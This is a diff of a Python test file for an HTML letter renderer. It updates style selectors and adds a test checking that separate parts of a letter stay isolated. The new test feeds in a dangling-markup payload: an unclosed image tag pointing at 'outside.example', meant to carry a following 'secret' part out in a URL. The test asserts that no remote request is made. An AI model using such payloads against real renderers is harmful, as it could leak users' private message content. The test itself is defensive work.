@@ -107,8 +107,8 @@ def test_styles_of_a_letter_stay_and_hold_for_it_alone(watched: Watched) -> None
         " --></style></head><body><p class=a><b class=b>x</b></p><p id=i>y</p>"
         "<table><tr><td bgcolor=#ffff00 style='padding:7px'><b>z</b></table></body></html>",
     )
-    assert computed(watched, ".zegel-letter", "background-color") == "rgb(16, 32, 48)"
-    assert computed(watched, ".zegel-letter", "color") == "rgb(1, 2, 3)"
+    assert computed(watched, ".zegel-letter-0", "background-color") == "rgb(16, 32, 48)"
+    assert computed(watched, ".zegel-letter-0", "color") == "rgb(1, 2, 3)"
     assert computed(watched, ".m-b", "color") == "rgb(255, 0, 0)"
     assert computed(watched, "#m-i", "font-size") == "30px"
     assert computed(watched, "td b", "color") == "rgb(0, 255, 0)"
@@ -116,10 +116,32 @@ def test_styles_of_a_letter_stay_and_hold_for_it_alone(watched: Watched) -> None
     assert computed(watched, "td", "padding-top") == "7px"
 
 
+def test_parts_of_a_letter_do_not_reach_into_each_other(watched: Watched) -> None:
+    told = watched.call(
+        "show",
+        [
+            "<p class=a>one</p><style>.a{color:rgb(9,9,9)}</style>"
+            "<img src='https://outside.example/?",
+            "<p class=a>the secret</p>",
+            "'><textarea><!--<p>three</p>",
+            "<p>four</p>",
+        ],
+    )
+    assert told["remote"] == []
+    assert watched.frame().locator("#sheet > div").all_inner_texts() == [
+        "one",
+        "the secret",
+        "'>",
+        "four",
+    ]
+    assert computed(watched, "#sheet > div:nth-child(1) p", "color") == "rgb(9, 9, 9)"
+    assert computed(watched, "#sheet > div:nth-child(2) p", "color") != "rgb(9, 9, 9)"
+
+
 def test_colours_of_body_attributes_count(watched: Watched) -> None:
     watched.call("show", "<body bgcolor=#000000 text=#ffffff><p>x</p></body>")
-    assert computed(watched, ".zegel-letter", "background-color") == "rgb(0, 0, 0)"
-    assert computed(watched, ".zegel-letter p", "color") == "rgb(255, 255, 255)"
+    assert computed(watched, ".zegel-letter-0", "background-color") == "rgb(0, 0, 0)"
+    assert computed(watched, ".zegel-letter-0 p", "color") == "rgb(255, 255, 255)"
 
 
 def test_pictures_that_came_along_are_shown_and_others_are_not(watched: Watched) -> None:
